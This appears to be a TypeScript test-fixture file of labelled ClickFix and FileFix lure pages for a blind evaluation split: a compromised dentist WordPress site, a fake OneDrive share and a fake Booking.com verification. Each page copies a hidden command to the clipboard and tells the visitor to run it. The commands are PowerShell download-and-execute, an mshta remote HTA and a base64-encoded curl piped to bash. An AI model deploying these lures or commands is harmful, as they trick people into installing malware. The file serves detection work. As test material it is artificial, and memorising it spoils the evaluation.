import { htmlRoute, type Entry } from '../entry.js';
import { doc, jsRoute, pngRoute } from '../parts/v-kit.js';

// Fake CAPTCHA / "fix it" pages (blind split).

// 1. Compromised German WordPress site: an injected script pulls an overlay "reCAPTCHA" from another host.
const h1 = 'www.zahnarzt-mueller-bamberg.de';
const h1b = 'cdnjs-static-lib.com';
const overlay = `(function(){if(document.cookie.indexOf('rcv=1')>-1)return;
var cmd='cmd /c start /min powershell -w h -c "iex(New-Object Net.WebClient).DownloadString(\\'https://cdnjs-static-lib.com/rc/v.ps1\\')" :: Ich bin kein Roboter - reCAPTCHA-Bestaetigungs-ID 2931';
var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:99999;font-family:Roboto,Arial,sans-serif';
o.innerHTML='<div style="width:400px;margin:15vh auto;border:1px solid #d3d3d3;box-shadow:0 0 4px rgba(0,0,0,.1)"><div style="background:#4a90e2;color:#fff;padding:20px"><b style="font-size:20px">Ich bin kein Roboter</b><br><span style="font-size:13px">reCAPTCHA-Überprüfung erforderlich</span></div>'+
'<div style="padding:20px;font-size:14px" id="rcs"><label style="display:flex;align-items:center;gap:10px;cursor:pointer"><input type="checkbox" id="rcb" style="width:24px;height:24px"> Ich bin kein Roboter</label></div>'+
'<div id="rci" style="display:none;padding:0 20px 20px;font-size:14px"><b>Bestätigungsschritte:</b><ol style="line-height:1.9"><li>Drücken Sie die Windows-Taste <b>&#8862;</b> + <b>R</b></li><li>Drücken Sie <b>Strg + V</b> im Bestätigungsfenster</li><li>Drücken Sie die <b>Eingabetaste</b> zum Abschließen</li></ol></div>'+
'<div style="font-size:10px;color:#555;padding:6px 20px;text-align:right">reCAPTCHA · Datenschutz - Nutzungsbedingungen</div></div>';
document.body.appendChild(o);document.getElementById('rcb').onclick=function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();document.getElementById('rci').style.display='block'};})();`;
const wpDe: Entry = {
  id: 'v-clickfix-wp-recaptcha-de',
  label: 'clickfix',
  kind: 'compromised-site-captcha',
  url: `https://${h1}/praxis/team/`,
  routes: {
    [`${h1}/praxis/team/`]: htmlRoute(
      doc({
        lang: 'de',
        title: 'Unser Team – Zahnarztpraxis Dr. Müller Bamberg',
        head: `<meta name="generator" content="WordPress 6.4.3"><link rel="icon" href="/wp-content/uploads/2021/03/cropped-favicon-32x32.png">`,
        css: `body{margin:0;font-family:"Open Sans",Arial,sans-serif;color:#333}header{background:#fff;border-bottom:1px solid #e5e5e5;padding:18px 40px;display:flex;justify-content:space-between}header nav a{margin-left:20px;color:#2a7ab0;text-decoration:none}
.hero{background:#e9f4fb;padding:50px 40px}.team{display:grid;grid-template-columns:repeat(3,1fr);gap:24px;padding:40px}.team div{background:#fafafa;padding:18px;border-radius:6px}footer{background:#2a3b4c;color:#cfd8e0;padding:30px 40px;font-size:13px}`,
        body: `<header><b style="color:#2a7ab0;font-size:20px">Zahnarztpraxis Dr. Müller</b><nav><a href="/">Startseite</a><a href="/praxis/team/">Team</a><a href="/leistungen/">Leistungen</a><a href="/kontakt/">Kontakt</a><a href="/termin/">Online-Termin</a></nav></header>
<div class="hero"><h1>Unser Team</h1><p>Kompetent, freundlich und mit Herz für Ihre Zahngesundheit – seit 1998 in Bamberg.</p></div>
<div class="team"><div><h3>Dr. med. dent. Stefan Müller</h3><p>Zahnarzt, Implantologie (DGI)</p></div><div><h3>Dr. Katrin Weber</h3><p>Zahnärztin, Kinderzahnheilkunde</p></div><div><h3>Julia Schneider</h3><p>Praxismanagerin, ZMV</p></div><div><h3>Anna Hofmann</h3><p>Prophylaxe (ZMP)</p></div><div><h3>Lena Fischer</h3><p>Zahnmedizinische Fachangestellte</p></div><div><h3>Tobias Braun</h3><p>Auszubildender</p></div></div>
<footer>Zahnarztpraxis Dr. Müller · Lange Straße 14 · 96047 Bamberg · Tel. 0951 123456 · <a href="/impressum/" style="color:#cfd8e0">Impressum</a> · <a href="/datenschutz/" style="color:#cfd8e0">Datenschutz</a></footer>
<script src="/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1"></script>
<script>!function(){var s=document.createElement('script');s.src='https://${h1b}/ajax/libs/jquery/3.7.1/jquery.min.js?v='+Date.now();document.head.appendChild(s)}();</script>`,
      }),
    ),
    [`${h1}/wp-includes/js/jquery/jquery-migrate.min.js`]: jsRoute(`/*! jQuery Migrate v3.4.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */window.jQueryMigrate={version:'3.4.1'};`),
    [`${h1}/wp-content/uploads/2021/03/cropped-favicon-32x32.png`]: pngRoute(42, 122, 176),
    [`${h1b}/ajax/libs/jquery/3.7.1/jquery.min.js`]: jsRoute(overlay),
  },
};

// 2. "FileFix": a shared-document page that asks the visitor to paste a "file path" into File Explorer.
const h2 = 'hr-sharedfiles.onrender.com';
const filefix: Entry = {
  id: 'v-clickfix-filefix-explorer-path',
  label: 'clickfix',
  kind: 'fake-fix',
  url: `https://${h2}/share/HR-Policy-Update.docx`,
  body: doc({
    title: 'HR Policy Update - Shared file',
    css: `body{margin:0;font-family:"Segoe UI",Arial;background:#faf9f8}.h{background:#0078d4;color:#fff;padding:12px 20px;font-weight:600}.c{max-width:560px;margin:50px auto;background:#fff;padding:30px;box-shadow:0 2px 8px rgba(0,0,0,.12)}
.p{display:flex;gap:6px;margin:14px 0}.p input{flex:1;padding:9px;border:1px solid #8a8886;font-family:Consolas,monospace;font-size:13px}.p button,.o{background:#0078d4;color:#fff;border:0;padding:9px 16px;cursor:pointer}ol{font-size:14px;line-height:1.9}`,
    body: `<div class="h">&#9729; OneDrive</div><div class="c"><h2 style="margin-top:0">HR has shared a file with you</h2><p><b>HR-Policy-Update.docx</b> is stored on the company file server. To open it, follow these steps:</p>
<ol><li>Copy the file path below</li><li>Click <b>Open File Explorer</b> and select the address bar (<b>CTRL + L</b>)</li><li>Paste the file path (<b>CTRL + V</b>) and press <b>Enter</b></li></ol>
<div class="p"><input id="fp" readonly value="C:\\company\\internal-secure\\filedrive\\HRPolicy.docx"><button id="cp">Copy</button></div>
<button class="o" id="op">Open File Explorer</button><input type="file" id="fi" style="display:none">
<p style="font-size:12px;color:#605e5c;margin-top:24px">Shared via OneDrive for Business · Expires in 7 days</p></div>
<script>
var real='Powershell.exe -c ping example.com; $p=\\'https://hr-sharedfiles.onrender.com/x/h.ps1\\'; iwr $p -OutFile $env:TEMP\\\\h.ps1; & $env:TEMP\\\\h.ps1'+' '.repeat(180)+'# C:\\\\company\\\\internal-secure\\\\filedrive\\\\HRPolicy.docx';
function c(){navigator.clipboard.writeText(real)}
document.getElementById('cp').onclick=c;document.getElementById('fp').onclick=c;
document.getElementById('op').onclick=function(){c();document.getElementById('fi').click()};
</script>`,
  }),
};


// 3. OS-aware "verify you are human" page on Workers: Windows gets a Run-box command, macOS a Terminal one.
const h3 = 'human-verify.gentle-sun-1a2b.workers.dev';
const uaAware: Entry = {
  id: 'v-clickfix-ua-aware-verify-terminal',
  label: 'clickfix',
  kind: 'fake-captcha',
  url: `https://${h3}/?ref=booking-confirm&rid=55120`,
  routes: {
    [`${h3}/`]: htmlRoute(
      doc({
        title: 'Booking.com | Verification',
        css: `body{margin:0;font-family:BlinkMacSystemFont,-apple-system,"Segoe UI",Roboto,Arial;background:#f5f5f5}.h{background:#003580;color:#fff;padding:14px 24px;font-weight:700;font-size:20px}.c{max-width:480px;margin:40px auto;background:#fff;border-radius:8px;padding:26px;box-shadow:0 2px 8px rgba(0,0,0,.12)}
.ck{display:flex;align-items:center;gap:12px;border:1px solid #ccc;border-radius:4px;padding:16px;cursor:pointer}.ck i{width:24px;height:24px;border:2px solid #777;border-radius:3px}#how{display:none;margin-top:18px;background:#f0f6ff;border-radius:6px;padding:14px;font-size:14px}kbd{background:#fff;border:1px solid #aaa;border-radius:3px;padding:0 5px}`,
        body: `<div class="h">Booking.com <span style="font-weight:400;font-size:13px">Partner Hub</span></div><div class="c"><h3>Confirm you are not a robot</h3><p style="font-size:14px">A guest has left a complaint about your property. To view the message in the Extranet we need to make sure you are human.</p>
<div class="ck" id="ck"><i></i> I'm not a robot</div><div id="how"></div><p style="font-size:11px;color:#888;margin-top:20px">Copyright © 1996–2026 Booking.com™. All rights reserved.</p></div>
<script src="/v.js"></script>`,
      }),
    ),
    [`${h3}/v.js`]: jsRoute(`(function(){var mac=/Macintosh|Mac OS X/.test(navigator.userAgent);
var win='mshta https://gentle-sun-1a2b.workers.dev/c/verify.hta # Booking verification ID 55120';
var osx='/bin/bash -c "$(echo Y3VybCAtZnNTTCBodHRwczovL2dlbnRsZS1zdW4tMWEyYi53b3JrZXJzLmRldi9tLnNoIHwgYmFzaA== | base64 -d)"';
var how=mac?'<b>To complete verification:</b><ol><li>Press <kbd>&#8984; Command</kbd> + <kbd>Space</kbd>, type <b>Terminal</b> and press Return</li><li>Press <kbd>&#8984;</kbd> + <kbd>V</kbd> to paste</li><li>Press <kbd>Return</kbd></li></ol>'
:'<b>To complete verification:</b><ol><li>Press <kbd>&#8862; Win</kbd> + <kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol>';
document.getElementById('ck').onclick=function(){navigator.clipboard.writeText(mac?osx:win);document.getElementById('how').innerHTML=how;document.getElementById('how').style.display='block';this.querySelector('i').style.borderColor='#0071c2'};})();`),
  },
};

export const entries: Entry[] = [wpDe, filefix, uaAware];
